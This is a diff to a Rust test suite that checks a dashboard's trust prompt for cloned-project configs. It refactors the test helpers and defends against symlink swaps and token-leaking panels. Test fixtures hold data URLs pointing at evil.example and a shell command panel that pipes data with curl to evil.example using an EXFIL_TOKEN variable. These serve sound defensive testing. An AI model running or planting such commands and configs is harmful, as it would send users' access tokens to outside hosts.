@@ -26,12 +26,18 @@ impl Folder {
         Self { tmp }
     }
 
+    /// The cloned project's folder.
+    fn project(&self) -> PathBuf {
+        self.tmp.path().join("project")
+    }
+
     fn config(&self) -> PathBuf {
-        self.tmp
-            .path()
-            .join("project")
-            .join(".streamlit")
-            .join("secrets.toml")
+        self.project().join(".streamlit").join("secrets.toml")
+    }
+
+    /// The config: a provider at [`ISSUER`], then `extra` lines.
+    fn write(&self, extra: &str) {
+        std::fs::write(self.config(), config_text(extra)).unwrap();
     }
 
     fn data(&self) -> PathBuf {
@@ -67,7 +73,7 @@ fn load(f: &Folder) -> Result<authdash::config::Config, LoadError> {
 #[test]
 fn attack_trusted_config_replaced_by_a_symlink_to_other_content() {
     let f = Folder::new();
-    std::fs::write(f.config(), config_text("")).unwrap();
+    f.write("");
     trust::trust(&f.data(), &f.config(), false).expect("trusted");
     let evil = f.elsewhere(
         "evil.toml",
@@ -85,7 +91,7 @@ fn attack_trusted_config_replaced_by_a_symlink_to_other_content() {
 #[test]
 fn attack_streamlit_folder_swapped_for_a_symlink_after_trust() {
     let f = Folder::new();
-    std::fs::write(f.config(), config_text("")).unwrap();
+    f.write("");
     trust::trust(&f.data(), &f.config(), false).expect("trusted");
     let other = f.tmp.path().join("other");
     std::fs::create_dir_all(&other).unwrap();
@@ -108,7 +114,7 @@ fn attack_streamlit_folder_swapped_for_a_symlink_after_trust() {
 #[test]
 fn attack_copy_of_a_trusted_config_in_another_folder() {
     let f = Folder::new();
-    std::fs::write(f.config(), config_text("")).unwrap();
+    f.write("");
     trust::trust(&f.data(), &f.config(), false).expect("trusted");
     let copy = f.elsewhere("secrets.toml", &config_text(""));
     refused(trust::check(&f.data(), &copy), "copy");
@@ -146,14 +152,10 @@ fn attack_fifo_in_place_of_the_config_does_not_hang() {
 #[test]
 fn attack_trust_prompt_hides_where_panels_send_the_access_token() {
     let f = Folder::new();
-    std::fs::write(
-        f.config(),
-        config_text(
-            "\n[[authdash.panels]]\nid = \"x\"\ntitle = \"Usage\"\n\
+    f.write(
+        "\n[[authdash.panels]]\nid = \"x\"\ntitle = \"Usage\"\n\
              data_url = \"https://collector.evil.example/{org_id}\"\n",
-        ),
-    )
-    .unwrap();
+    );
     let message = match trust::check(&f.data(), &f.config()) {
         Err(e @ TrustError::Untrusted(_)) => e.to_string(),
         other => panic!("expected untrusted, got {other:?}"),
@@ -188,14 +190,10 @@ fn shown_by_trust(f: &Folder) -> String {
 fn attack_an_http_source_panel_sending_the_token_elsewhere_is_shown() {
     let f = Folder::new();
     let url = "https://collector.evil.example/{org_id}/{user_id}?panel={panel_id}";
-    std::fs::write(
-        f.config(),
-        config_text(&format!(
-            "\n[[authdash.panels]]\nid = \"usage\"\ntitle = \"Usage\"\n\
+    f.write(&format!(
+        "\n[[authdash.panels]]\nid = \"usage\"\ntitle = \"Usage\"\n\
              source = {{ type = \"http\", url = \"{url}\", select = \"/x\" }}\n"
-        )),
-    )
-    .unwrap();
+    ));
     let (_, message) = refusal(&f);
     assert!(
         message.contains(url),
@@ -211,14 +209,10 @@ fn attack_an_http_source_panel_sending_the_token_elsewhere_is_shown() {
 #[test]
 fn attack_a_command_panel_is_named_and_needs_allow_commands() {
     let f = Folder::new();
-    std::fs::write(
-        f.config(),
-        config_text(
+    f.write(
             "\n[[authdash.panels]]\nid = \"deploys\"\ntitle = \"Deploys\"\n\
              source = { type = \"command\", argv = [\"/bin/sh\", \"-c\", \"curl -d @- https://evil.example\", \"{org_name}\"], token_env = \"EXFIL_TOKEN\" }\n",
-        ),
-    )
-    .unwrap();
+        );
     let (untrusted, message) = refusal(&f);
     for part in [
         "/bin/sh",
@@ -253,14 +247,10 @@ fn attack_a_command_panel_is_named_and_needs_allow_commands() {
 fn attack_a_relative_program_path_is_refused() {
     for program in ["./tools/report.sh", "tools/report", "python3"] {
         let f = Folder::new();
-        std::fs::write(
-            f.config(),
-            config_text(&format!(
-                "\n[[authdash.panels]]\nid = \"r\"\ntitle = \"R\"\n\
+        f.write(&format!(
+            "\n[[authdash.panels]]\nid = \"r\"\ntitle = \"R\"\n\
                  source = {{ type = \"command\", argv = [\"{program}\"] }}\n"
-            )),
-        )
-        .unwrap();
+        ));
         let (_, message) = refusal(&f);
         assert!(
             message.contains("not an absolute path"),
@@ -286,9 +276,7 @@ fn attack_a_relative_program_path_is_refused() {
 fn attack_no_setting_that_matters_is_left_out_of_the_summary() {
     let f = Folder::new();
     std::fs::write(f.config().with_file_name("corp.pem"), "certificates").unwrap();
-    std::fs::write(
-        f.config(),
-        config_text(
+    f.write(
             "client_secret_env = \"VICTIM_SECRET\"\n\
              allow_hs256 = true\n\
              redirect_uri = \"http://127.0.0.1:8765/cb\"\n\
@@ -304,9 +292,7 @@ fn attack_no_setting_that_matters_is_left_out_of_the_summary() {
              [auth.claims]\nsource = \"id_token\"\n\
              [authdash]\ntheme = \"dark\"\nprovider_body_cap_mib = 16\n\
              exec_token_env = \"GH_TOKEN\"\nexec_org_env = \"GH_ORG\"\n",
-        ),
-    )
-    .unwrap();
+        );
     let (_, message) = refusal(&f);
     for key in [
         "auth.client_secret_env = \"VICTIM_SECRET\"",
@@ -348,14 +334,10 @@ fn attack_no_setting_that_matters_is_left_out_of_the_summary() {
 #[test]
 fn attack_a_file_that_cannot_be_summarised_whole_is_refused_not_shown_in_part() {
     let f = Folder::new();
-    std::fs::write(
-        f.config(),
-        config_text(
+    f.write(
             "\n[[authdash.panels]]\nid = \"x\"\ntitle = \"X\"\n\
              source = { type = \"http\", url = \"https://a.example/x\", also_to = \"https://evil.example\" }\n",
-        ),
-    )
-    .unwrap();
+        );
     let (untrusted, message) = refusal(&f);
     assert!(untrusted.summary.is_err());
     assert!(message.contains("cannot be read whole"), "{message}");
@@ -377,7 +359,7 @@ fn attack_a_ca_file_changed_after_trust_asks_again() {
     let f = Folder::new();
     let ca = f.config().with_file_name("corp.pem");
     std::fs::write(&ca, "the corporate CA").unwrap();
-    std::fs::write(f.config(), config_text("ca_file = \"corp.pem\"\n")).unwrap();
+    f.write("ca_file = \"corp.pem\"\n");
     trust::trust(&f.data(), &f.config(), false).expect("trusted");
     assert!(trust::check(&f.data(), &f.config()).is_ok());
     assert!(load(&f).is_ok());
